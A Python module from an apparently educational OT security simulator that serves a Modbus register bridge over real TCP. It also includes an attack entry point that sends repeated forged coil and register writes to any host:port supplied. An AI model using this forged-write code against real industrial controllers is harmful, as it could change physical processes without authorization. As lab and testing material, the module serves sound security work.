"""Real-socket demo mode: the register bridge and the forged-write
attack over actual TCP, for poking at with external Modbus tools.

Everything here bypasses the simulated fabric, so no mirror, no PCAP,
no determinism guarantees — it exists to show the same application code
speaking on a real network.  Only the forged-write attack is offered
over real sockets: the flood and the interposer exist to exercise the
fabric's queueing and routing, which a kernel TCP stack does not expose.
"""

from __future__ import annotations

import socket
import socketserver
import struct
import threading

from . import modbus
from .bridge import Bridge

__all__ = ["BridgeServer", "send_forged_write", "run_attack_spec"]


class _Handler(socketserver.BaseRequestHandler):
    def handle(self):
        buffer = bytearray()
        self.request.settimeout(30.0)
        src_ip = struct.unpack(">I", socket.inet_aton(
            self.client_address[0]))[0]
        while True:
            try:
                data = self.request.recv(4096)
            except (socket.timeout, ConnectionError, OSError):
                return
            if not data:
                return
            buffer.extend(data)
            while True:
                out = modbus.decode_frame(bytes(buffer), role="request")
                if out is modbus.INCOMPLETE:
                    break
                if isinstance(out, modbus.Invalid):
                    self.server.bridge.protocol_errors += 1
                    return
                del buffer[:out.consumed]
                response = self.server.bridge.route_request(src_ip, out.pdu)
                try:
                    self.request.sendall(modbus.encode_frame(
                        modbus.MbapHeader(out.header.transaction_id,
                                          out.header.unit_id), response))
                except (ConnectionError, OSError):
                    return


class BridgeServer:
    """The register bridge listening on a real TCP port."""

    def __init__(self, host: str = "127.0.0.1", port: int = 502,
                 bridge: Bridge | None = None):
        self.bridge = bridge if bridge is not None else Bridge()
        self.server = socketserver.ThreadingTCPServer(
            (host, port), _Handler, bind_and_activate=False)
        self.server.allow_reuse_address = True
        self.server.daemon_threads = True
        self.server.bridge = self.bridge
        self.server.server_bind()
        self.server.server_activate()
        self.host, self.port = self.server.server_address[:2]
        self._thread: threading.Thread | None = None

    def start(self):
        self._thread = threading.Thread(
            target=self.server.serve_forever, kwargs={"poll_interval": 0.05},
            daemon=True, name="otsim-bridge")
        self._thread.start()
        return self

    def stop(self):
        self.server.shutdown()
        self.server.server_close()
        if self._thread is not None:
            self._thread.join(timeout=5)


def _request_pdu(function: int, address: int, values):
    if function == modbus.FC_WRITE_SINGLE_COIL:
        return modbus.WriteSingleCoilRequest(address, bool(values[0]))
    if function == modbus.FC_WRITE_MULTIPLE_COILS:
        return modbus.WriteMultipleCoilsRequest(
            address, tuple(bool(v) for v in values))
    if function == modbus.FC_WRITE_SINGLE_REGISTER:
        return modbus.WriteSingleRegisterRequest(address, int(values[0]))
    if function == modbus.FC_WRITE_MULTIPLE_REGISTERS:
        return modbus.WriteMultipleRegistersRequest(
            address, tuple(int(v) for v in values))
    raise ValueError(f"unsupported write function {function}")


def send_forged_write(host: str, port: int, spec,
                      timeout: float = 5.0) -> list[dict]:
    """Send the forged writes from a ``ForgeWriteSpec`` over a real
    socket; returns one result record per request."""
    results = []
    pdu = _request_pdu(spec.function, spec.address, spec.values)
    with socket.create_connection((host, port), timeout=timeout) as sock:
        sock.settimeout(timeout)
        buffer = bytearray()
        for i in range(spec.repeat):
            txn = (i + 1) & 0xFFFF
            sock.sendall(modbus.encode_frame(
                modbus.MbapHeader(txn, spec.unit), pdu))
            record = {"request": i + 1, "transaction_id": txn}
            while True:
                out = modbus.decode_frame(bytes(buffer), role="response")
                if out is not modbus.INCOMPLETE:
                    break
                try:
                    data = sock.recv(4096)
                except socket.timeout:
                    record["outcome"] = "timeout"
                    out = None
                    break
                if not data:
                    record["outcome"] = "closed"
                    out = None
                    break
                buffer.extend(data)
            if out is None:
                results.append(record)
                break
            if isinstance(out, modbus.Invalid):
                record["outcome"] = f"protocol error: {out.reason}"
                results.append(record)
                break
            del buffer[:out.consumed]
            if isinstance(out.pdu, modbus.ExceptionResponse):
                record["outcome"] = "rejected"
                record["exception_code"] = out.pdu.exception_code
            else:
                record["outcome"] = "accepted"
            results.append(record)
    return results


def run_attack_spec(data: dict, target: str) -> tuple[int, dict]:
    """CLI ``attack`` entry: returns (exit code, result record).

    Only forged writes run over real sockets.  The flood and the
    interposer are fabric-only by design; asking for them here is a
    validation error, not a failure.
    """
    kind = data.get("type")
    if kind != "forge_write":
        return 2, {"ok": False,
                   "error": f"attack type {kind!r} is not available over "
                            "real sockets; only forge_write is"}
    host, _, port_text = target.rpartition(":")
    host = host or "127.0.0.1"
    try:
        port = int(port_text)
    except ValueError:
        return 2, {"ok": False, "error": f"bad target {target!r}, "
                                         "expected host:port"}
    from . import attacks, config
    function = data.get("function", modbus.FC_WRITE_MULTIPLE_COILS)
    if isinstance(function, str):
        function = config.function_code(function)
    try:
        spec = attacks.ForgeWriteSpec(
            target_ip="0.0.0.0",  # unused on real sockets
            unit=int(data.get("unit", 0)),
            function=int(function),
            address=int(data.get("address", 0)),
            values=tuple(data.get("values", (1,))),
            repeat=int(data.get("repeat", 1)))
    except (TypeError, ValueError) as exc:
        return 2, {"ok": False, "error": f"bad attack spec: {exc}"}
    try:
        results = send_forged_write(host, port, spec)
    except OSError as exc:
        return 3, {"ok": False, "error": f"connection to {target} failed: "
                                         f"{exc}"}
    return 0, {"ok": True, "target": target, "results": results}
